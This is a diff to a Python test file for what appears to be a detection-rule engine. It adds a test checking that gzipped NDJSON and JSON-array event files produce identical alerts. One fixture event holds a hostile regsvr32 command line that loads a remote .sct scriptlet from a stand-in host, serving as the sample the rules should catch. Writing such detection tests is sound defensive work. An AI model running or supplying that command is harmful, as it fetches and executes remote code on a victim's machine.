@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import gzip
 import json
 from collections.abc import Mapping
 from datetime import UTC, datetime
@@ -251,3 +252,19 @@ def test_later_sequence_stages_are_parsed_only_for_first_stage_keys(
     assert result.counts.parsed == 3  # the start and both p1 loads, never the p2 load
     portable, _ = run(pack, [path], screen=True, fast=False)
     assert (hit_keys(portable), portable.counts) == (hit_keys(result), result.counts)
+
+
+def test_gzipped_ndjson_and_json_arrays_give_the_same_alerts(
+    tmp_path: Path, pack: list[Rule], repo_root: Path
+) -> None:
+    docs = [
+        _process("notepad.exe", "notepad"),
+        _process("regsvr32.exe", "regsvr32 /s /i:http://x/a.sct scrobj.dll"),
+    ]
+    packed = tmp_path / "events.ndjson.gz"
+    packed.write_bytes(gzip.compress(b"\n".join(orjson.dumps(d) for d in docs) + b"\n"))
+    array = tmp_path / "events.json"
+    array.write_bytes(orjson.dumps(docs))
+    for path in (packed, array):
+        result = assert_same(pack, [path], repo_root)
+        assert [e.id for _, hits in result.hits for h in hits for e in h.events] == ["2"]
